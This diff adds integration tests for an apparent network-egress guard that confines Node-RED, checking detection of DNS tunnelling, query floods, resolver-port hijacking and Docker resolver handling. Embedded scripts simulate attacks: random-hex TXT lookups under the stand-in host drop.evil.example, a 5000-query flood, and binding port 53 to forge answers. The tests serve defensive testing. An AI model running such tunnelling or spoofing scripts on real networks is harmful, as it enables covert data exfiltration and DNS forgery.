@@ -1,6 +1,7 @@
 //! Rules with names: what a name gave is reached, and nothing else.
 
 use std::{
+    fs,
     net::{IpAddr, Ipv4Addr, UdpSocket},
     process::{Command, Stdio},
     sync::Arc,
@@ -211,4 +212,107 @@ fn node_red_reaches_a_name_by_the_systems_resolver() -> Result<()> {
         ensure!(told, "{guarded:#?}");
         Ok(())
     })
+}
+
+#[test]
+fn data_in_questions_is_one_alarm_by_domain_and_look_ups_are_none() -> Result<()> {
+    let scene = Scene::empty()?;
+    let _resolver = resolver(&scene.network)?;
+    // No rule allows the names that are looked up: nothing is passed over.
+    let system = system_resolver().to_string();
+    let policy =
+        Policy::enforce(&scene.node_red).resolvers(&["127.0.0.53"]).egress(&["loopback", &system], "allow", "resolver");
+    let script = "
+        const random = () => require('crypto').randomBytes(20).toString('hex');
+        const each = async (count, ask) => {
+            let next = 0;
+            const worker = async () => { while (next < count) await ask(next++); };
+            await Promise.all(Array.from({ length: 8 }, worker));
+        };
+        await each(2000, number => lookup(`h${10 + number % 190}.plant.example`, number % 3 ? 'A' : 'AAAA'));
+        await each(300, () => lookup(`${random()}.drop.evil.example`, 'TXT'));";
+    let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
+    node(&scene, script)?;
+    guard.wait_for(Duration::from_secs(10), |record| record.rule() == "dns-tunnel" && record.is_alarm())?;
+    let console = guard.console().clone();
+    let records = guard.stop()?;
+    let told: Vec<_> = records.iter().filter(|record| record.is_alarm()).collect();
+    ensure!(told.iter().all(|record| record.rule() == "dns-tunnel"), "{told:#?}");
+    let [event] = told.iter().filter(|record| record.hook() == "dns").collect::<Vec<_>>()[..] else {
+        anyhow::bail!("not one event: {told:#?}");
+    };
+    ensure!(event.pointer_text("/unmapped/domain") == "evil.example", "{event:#?}");
+    ensure!(event.number("/unmapped/names_long") == Some(50), "{event:#?}");
+    ensure!(event.pointer_text("/actor/process/name") == "node", "{event:#?}");
+    let incidents: Vec<_> = records.iter().filter(|record| record.number("/class_uid") == Some(2004)).collect();
+    let begun: Vec<_> =
+        incidents.iter().filter(|incident| incident.pointer_text("/activity_name") == "Create").collect();
+    ensure!(begun.len() == 1 && begun[0].pointer_text("/attacks/0/sub_technique/uid") == "T1071.004", "{begun:#?}");
+    let said = console.text();
+    ensure!(said.contains("50 different names below evil.example") && said.contains("*.evil.example"), "{said}");
+    Ok(())
+}
+
+#[test]
+fn a_flood_of_questions_is_read_up_to_a_bound_and_the_rest_is_counted() -> Result<()> {
+    let scene = Scene::empty()?;
+    let _resolver = resolver(&scene.network)?;
+    let script = "
+        const socket = dgram.createSocket('udp4');
+        await new Promise(done => socket.connect(53, '127.0.0.53', done));
+        const message = question('h10.plant.example');
+        for (let number = 0; number < 5000; number++) await new Promise(done => socket.send(message, done));";
+    let guard = Guard::start(Some(&policy(&scene, &["127.0.0.53"])), &scene.cgroup, &[])?;
+    node(&scene, script)?;
+    let told = guard.wait_for(Duration::from_secs(10), |record| record.number("/unmapped/skipped").is_some())?;
+    ensure!(told.pointer_text("/activity_name") == "Loss", "{told:#?}");
+    guard.stop().map(drop)
+}
+
+#[test]
+fn whoever_serves_the_resolvers_port_to_forge_answers_is_met() -> Result<()> {
+    let scene = Scene::empty()?;
+    // As Docker has it in its containers.
+    scene.network.home.run(|| Ok(fs::write("/proc/sys/net/ipv4/ip_unprivileged_port_start", "0")?))?;
+    // As `flowwarden init` writes it.
+    let rule = "[[instance.ingress]]\nid = \"forged-names\"\nports = [53]\nverdict = \"deny\"\nfallback = \"kill\"\n\
+                from = [\"any\", \"loopback\", \"private\", \"link-local\"]\n";
+    let script = "
+        const bind = port => new Promise(done => {
+            const socket = dgram.createSocket('udp4');
+            socket.on('error', error => done(error.code));
+            socket.bind(port, '127.0.0.53', () => { socket.close(); done('ok'); });
+        });
+        out.other = await bind(5353);
+        out.resolver = await bind(53);";
+    let free = node(&scene, script)?;
+    ensure!(free["resolver"] == "ok", "nothing is proved: {free}");
+    let guard = Guard::start(Some(&policy(&scene, &[]).with(rule)), &scene.cgroup, &[])?;
+    // Where the kernel cannot deny it dies of it.
+    let out = node(&scene, script).unwrap_or_default();
+    ensure!(out["resolver"] != "ok", "{out}");
+    let records = guard.stop()?;
+    let met: Vec<_> = records.iter().filter(|record| record.is_alarm()).collect();
+    ensure!(!met.is_empty() && met.iter().all(|record| record.rule() == "forged-names"), "{met:#?}");
+    ensure!(met.iter().all(|record| matches!(record.verdict(), "deny" | "kill")), "{met:#?}");
+    Ok(())
+}
+
+#[test]
+fn dockers_resolver_counts_for_an_instance_in_a_container() -> Result<()> {
+    let scene = Scene::empty()?;
+    let docker = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 11));
+    let hosts = [("h10.plant.example".to_owned(), host(10))];
+    let _resolver = Dnsmasq::start(&scene.network.home, &[docker], &hosts, &[])?;
+    let script = "
+        resolver.setServers(['127.0.0.11']);
+        const found = await lookup('h10.plant.example');
+        out.came = Array.isArray(found) ? await reach(found[0]) : found;";
+    let uid = scene.node_red.confinement().uid;
+    let contained = policy(&scene, &[]).select(&format!("{{ uid = {uid} }}, {{ container = \"0123456789ab\" }}"));
+    for (policy, came) in [(policy(&scene, &[]), "EPERM"), (contained, "ok")] {
+        let (out, _) = under_guard(&scene, &policy, script)?;
+        ensure!(out["came"] == came, "{out} with\n{}", policy.text());
+    }
+    Ok(())
 }
